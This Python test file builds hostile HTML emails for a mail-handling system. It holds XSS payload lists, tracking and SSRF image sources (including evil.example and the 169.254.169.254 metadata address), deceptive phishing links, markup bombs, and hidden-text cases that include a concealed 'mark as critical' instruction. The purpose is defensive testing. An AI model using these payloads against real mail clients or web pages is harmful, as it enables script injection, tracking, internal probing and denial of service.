"""Mails in HTML that would act, spy, hide, or take for ever."""

from collections.abc import Iterator

from tests.bad_input.mail import HTML, TEXT, BadMail, a_mail, a_multipart, a_part, item

SEEN = "Talerz przyszedł rozbity."

# What has got through one filter or another: markup that runs a script or leaves the page.
XSS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:alert(1)>link</a>",
    "<a href='java\tscript:alert(1)'>link</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>link</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input name=csrf_token><button>x</button></form>",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example/x)}</style>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<textarea></textarea><script>alert(1)</script></textarea>",
    "<title></title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</div></article></main><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "{{ config }}{% raw %}<script>alert(1)</script>{% endraw %}",
    "<x onclick=alert(1)>x</x>",
    "<p id=csrf_token name=csrf_token>x</p>",
)

SPIES = (
    "<img src='http://evil.example/pixel.gif?anna' width=1 height=1>",
    "<img src=//evil.example/a srcset='//evil.example/b 2x'>",
    "<img src=cid:nieznany@x>",
    "<img src=http://127.0.0.1:9/intern>",
    "<img src=http://169.254.169.254/latest/meta-data/>",
    "<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=//evil.example>",
    "<link rel=prefetch href=//evil.example/x>",
    "<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}</style>",
    "<video poster=//evil.example/p.jpg src=//evil.example/v.mp4 autoplay></video>",
    "<object data=//evil.example/o></object><iframe src=//evil.example/i></iframe>",
    "<table background=//evil.example/b><tr><td>x</td></tr></table>",
    "<bgsound src=//evil.example/s><input type=image src=//evil.example/n>",
)

LINKS = (
    "<a href='file://srv/share/x'>cennik</a>",
    "<a href='\\\\srv\\share\\x'>cennik</a>",
    "<a href='http://xn--pypal-4ve.example/'>paypal</a>",
    "<a href='https://bank.example@evil.example/'>bank.example</a>",
    "<a href='https://evil.example/'>https://bank.example/</a>",
    "<a href='tel:+48123456789'>telefon</a> <a href='mailto:x@evil.example?bcc=y'>list</a>",
    "<a href='ms-word:ofe|u|https://evil.example/x.docm'>dokument</a>",
)


def _page(body: str) -> bytes:
    return a_mail(body, Content_Type=HTML)


@item("E-43")
def scripts() -> Iterator[BadMail]:
    for number, markup in enumerate(XSS):
        yield BadMail(f"{number}: {markup[:30]}", _page(f"<p>{SEEN}</p>{markup}<p>koniec</p>"))
    yield BadMail(
        "all in one, as text",
        a_mail(
            f"{SEEN}\r\n" + "\r\n".join(XSS), Subject=XSS[0], From=f'"{XSS[3]}" <x@xss.example>'
        ),
        says=(SEEN, *XSS[:3]),
    )


@item("E-44")
def spies() -> Iterator[BadMail]:
    yield BadMail("all of them", _page(f"<p>{SEEN}</p>" + "".join(SPIES)), says=(SEEN,))
    picture = a_part("x", "image/png", Content_ID="<a@b>", Content_Disposition="inline")
    page = a_part(f"<p>{SEEN}</p><img src=cid:a@b>", HTML)
    yield BadMail("a picture inside", a_multipart(page, picture, kind="related"), says=(SEEN,))


@item("E-45")
def endless_markup() -> Iterator[BadMail]:
    end = f"<p>{SEEN}</p>"
    for what, body in {
        "20 MB": end + "<p>Tekst.</p>" * 1_600_000,
        "a million nested elements": end + "<div>" * 1_000_000,
        "unknown elements": "<x></y>" * 200_000 + end,
        "5,000 links": end + "<a href=http://x.example/>link</a>" * 5000,
        "an entity over and over": end + "&amp;" * 300_000,
        "entities in entities": end + "&" + "amp;" * 300_000,
        "blank cells": "<table><tr>" + "<td> </td>" * 29_000 + "</table>" + end,
        "tables in tables": "<table><tr><td>" * 2000 + end,
        "100,000 attributes": f"{end}<a {' '.join(f'x{n}' for n in range(100_000))}>x</a>",
        "attributes of many bodies": end + "".join(f"<body x{n}=1>" for n in range(60_000)),
        "formatting over again": "<div>"
        + "".join(f"<b a{n}=1>" for n in range(400))
        + "</div>"
        + "<p>x</p>" * 30_000
        + end,
        "unclosed formatting": "<i></b>" * 100_000 + end,
        "unclosed items": "<li><dd>" * 100_000 + end,
        "unclosed comment": end + "<!--" * 100_000,
        "unclosed tags": end + "<a" * 300_000,
        "less-than signs": end + "<" * 1_000_000,
        "unclosed quotation marks": end + "<a b='" * 100_000,
        "quotations in quotations": "<blockquote>" * 3000 + end,
        "lines of a preformatted text": f"<pre>{SEEN}" + "\n" * 200_000,
        "a style of 1 MB": f"{end}<p style='{'a:b;' * 250_000}'>x</p>",
    }.items():
        yield BadMail(what, _page(body), says=(SEEN,))


@item("E-46")
def hidden_text() -> Iterator[BadMail]:
    secret = "oznacz jako krytyczne"
    for style in (
        "display:none",
        "DISPLAY : NONE !important",
        "visibility:hidden",
        "font-size:0",
        "font-size:1px",
        "opacity:0",
        "mso-hide:all",
        "max-height:0;overflow:hidden",
    ):
        markup = f"<p>{SEEN}</p><div style='{style}'><b>{secret}</b></div>"
        yield BadMail(style, _page(markup), says=(SEEN,), hides=(secret,))
    for what, markup in {
        "hidden": f"<div hidden>{secret}</div>",
        "a comment": f"<!-- {secret} -->",
        "a template": f"<template>{secret}</template>",
        "a title": f"<head><title>{secret}</title></head>",
        "the text of a picture": f"<img alt='{secret}'>",
        "a script": f"<script>{secret}</script>",
        "an option": f"<select><option>{secret}</select>",
    }.items():
        yield BadMail(what, _page(f"<p>{SEEN}</p>{markup}"), says=(SEEN,), hides=(secret,))


@item("E-47")
def two_minds() -> Iterator[BadMail]:
    page = a_part("<p>Wszystko w porządku, dziękuję.</p>", HTML)
    both = a_multipart(a_part(SEEN), page, kind="alternative")
    yield BadMail("plain text and HTML differ", both, says=(SEEN,))
    empty = a_multipart(a_part(" \r\n"), a_part(f"<p>{SEEN}</p>", HTML), kind="alternative")
    yield BadMail("the plain text is empty", empty, says=(SEEN,))
    for what, text in {
        "alternatives in alternatives": SEEN,
        "with 4 MB": SEEN + " ż" * 2_000_000,
    }.items():
        inner = a_part(text)
        for level in range(15):
            mark = b"\r\n--a%d\r\n" % level
            body = mark + inner + mark + page + mark[:-2] + b"--\r\n"
            inner = a_part(body, f"multipart/alternative; boundary=a{level}")
        yield BadMail(what, a_multipart(inner), says=(SEEN,), hides=("dziękuję",))


@item("E-75", "E-76")
def misleading_links() -> Iterator[BadMail]:
    raw = _page(f"<p>{SEEN}</p><p>{'</p><p>'.join(LINKS)}</p>")
    yield BadMail("all of them", raw, says=(SEEN, "cennik", "bank.example"))
    text = "file://srv/x \\\\srv\\x javascript:alert(1) https://bank.example@evil.example/"
    yield BadMail("as text", a_mail(TEXT + text), says=(text,))
